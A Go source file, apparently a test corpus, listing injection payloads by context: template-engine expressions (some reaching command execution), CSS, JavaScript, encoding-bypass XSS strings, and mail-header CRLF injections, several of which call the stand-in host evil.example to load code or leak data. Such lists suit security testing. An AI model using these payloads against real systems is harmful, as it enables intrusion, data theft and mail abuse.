package injection

// engines are expressions of template engines, on servers and in browsers.
var engines = []string{
	`{{.}}`, `{{printf "%s" .Page}}`, `{{template "layout" .}}`, `{{define "main"}}<script>alert(1)</script>{{end}}`, `{{html .}}{{js .}}`, `{{"{{"}}.Secret{{"}}"}}`, `{{constructor.constructor('alert(1)')()}}`, `{{$on.constructor('alert(1)')()}}`,
	`{{_self.env.display("x")}}`, `{{config.items()}}`, `{{7*7}}[[7*7]]`, `{% import os %}{{os.popen("id")}}`, `${alert(1)}`, `${7*7}`, `$\{alert(1)}`, `#{7*7}`, `#{alert(1)}`, `*{T(java.lang.Runtime).getRuntime().exec("id")}`, `<%= 7*7 %>`, `<% alert(1) %>`,
	`<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}`, `@(1+1)`, `@{alert(1)}`, `[[${alert(1)}]]`, `{{#with "s"}}{{lookup . "constructor"}}{{/with}}`, `<div v-on:click="alert(1)" v-html="x">`, `<div ng-app ng-csp>{{alert(1)}}</div>`,
	`<x-on hx-get=//evil.example hx-trigger=load>`, `<div x-data x-init="alert(1)">`, `<div data-ng-include="'//evil.example'">`, `%s%n%x`, `%!s(MISSING)`,
}

// styles are texts for where CSS is read.
var styles = []string{
	`{}</style><script>alert(1)</script>`, `}*{background:url(//evil.example)}`, `;background-image:url(//evil.example)`, `expression(alert(1))`, `x:expression/**/(alert(1))`, `url(javascript:alert(1))`, `url("//evil.example/?`, `'}@import'//evil.example';`,
	`\3c script\3e alert(1)`, `-moz-binding:url(//evil.example#x)`, `behavior:url(#default#time2)`, `@font-face{font-family:x;src:url(//evil.example)}`, `input[value^=a]{background:url(//evil.example/a)}`, `}@media print{body{display:none}}`, `*/}body{display:none}/*`,
	`@namespace url(//evil.example);`, `content:attr(value);cursor:url(//evil.example),auto`, `--x:url(//evil.example);background:var(--x)`, `@layer x{*{all:unset}}`, `}@keyframes x{}*{animation:x 1s}`,
}

// scripts are texts for where JavaScript or JSON is read.
var scripts = []string{
	`';alert(1)//`, `";alert(1)//`, "`;alert(1)//", `\';alert(1)//`, `\";alert(1)//`, `'-alert(1)-'`, `"-alert(1)-"`, "`-alert(1)-`", `\u0027;alert(1)//`, `\x22;alert(1)//`, `</script><!--<script>alert(1)`, `<!--<script>alert(1)//-->`, `-->alert(1)//`,
	`"}]};alert(1);//`, `"]]></script><script>alert(1)</script>`, "\u2028alert(1)\u2028", "\u2029alert(1)//", `*/alert(1)/*`, `);alert(1);(`, `','__proto__':{'x':'alert(1)'}`, `{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}`,
	`constructor[prototype][x]=alert(1)`, `\u003cimg src=x onerror=alert(1)\u003e`, `"+alert(1)+"`, `${[].map.constructor('alert(1)')()}`, `alert.call` + "`${1}`", `onerror=alert;throw 1`, `top["al"+"ert"](1)`, `import('//evil.example')`, `//# sourceMappingURL=//evil.example`,
}

// encoded texts mean markup to whoever decodes them once too often, or in
// another character set than the page's.
var encoded = []string{
	`%3Cscript%3Ealert(1)%3C/script%3E`, `%253Cscript%253Ealert(1)%253C%252Fscript%253E`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;img src=x onerror=alert(1)&#x3e;`,
	`&LT;script&GT;alert(1)`, `&lt&ltscript&gtalert(1)`, `&#0000060script&#0000062alert(1)`, `&NewLine;&lt;svg/onload=alert(1)&gt;`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `+/v8-+ADw-img src=x onerror=alert(1)+AD4-`, `%C0%BCscript%C0%BEalert(1)`, `%uff1cscript%uff1ealert(1)`,
	`\x3cscript\x3ealert(1)`, `\74script\76alert(1)`, `＜script＞alert(1)＜/script＞`, `﹤img src=x onerror=alert(1)﹥`, `‹script›alert(1)‹/script›`, "<scr\x00ipt>alert(1)</scr\x00ipt>", "<img\x00 src=x onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "<img\u00a0src=x onerror=alert(1)>",
	"<\u200bscript>alert(1)</script>", "\ufeff<script>alert(1)</script>", "\u202e>tpircs<)1(trela>tpircs/<", "\u2066<script>\u2069alert(1)", "<ſcript>alert(1)</ſcript>", "<ıframe src=javascript:alert(1)>", "javaſcript:alert(1)", "\x1b$B<script>\x1b(Balert(1)", "~{<script>~}alert(1)",
	"\ud7ff\ue000<svg onload=alert(1)>", "許功蓋\\\";alert(1)//", "<a\u0301 href=javascript:alert(1)>x", "<\U000e0073\U000e0063script>alert(1)", "𠮷\"><script>alert(1)</script>", "\u00ad<script\u00ad>alert(1)", "data:text/html;charset=utf-16,\u3c00\u7300", "&#xD800;<img src=x onerror=alert(1)>",
}

// headers are texts for a mail's header, its parts and its addresses.
var headers = []string{
	"x\r\nBcc: a@evil.example", "x\nBcc: a@evil.example", "x\rBcc: a@evil.example", "x\r\n Bcc: a@evil.example", "x\r\n\r\n<script>alert(1)</script>", "x\nContent-Type: text/html\n\n<img src=x onerror=alert(1)>", "x\u0085Bcc: a@evil.example", "x\vSubject: 系統信件",
	`%0d%0aBcc:%20a@evil.example`, `\r\nBcc: a@evil.example`, `=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=`, `=?utf-8?Q?=0D=0ABcc:_a@evil.example?=`, `=0D=0ABcc: a@evil.example`, `=3Cscript=3Ealert(1)`, "--boundary\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
	"\r\n.\r\nMAIL FROM:<a@evil.example>", "x\r\nReply-To: a@evil.example", "x\r\nContent-Disposition: attachment; filename=a.html", `"<script>alert(1)</script>"@evil.example`, `<a@evil.example>`, `a@evil.example,b@evil.example`, `"a@evil.example" <b@bank.example.com.tw>`,
	`a@evil.example?bcc=b@evil.example&body=<script>`, `mailto:a@evil.example?subject=x%0d%0aBcc:b@evil.example`, "begin 644 a.html\n#0V%T\nend", "x\r\nLink: <//evil.example>; rel=preload", "x\r\nSet-Cookie: session=1", "x\r\nLocation: //evil.example", "x\r\nContent-Security-Policy: script-src *", `../../../etc/passwd"><script>alert(1)</script>.pdf`,
}
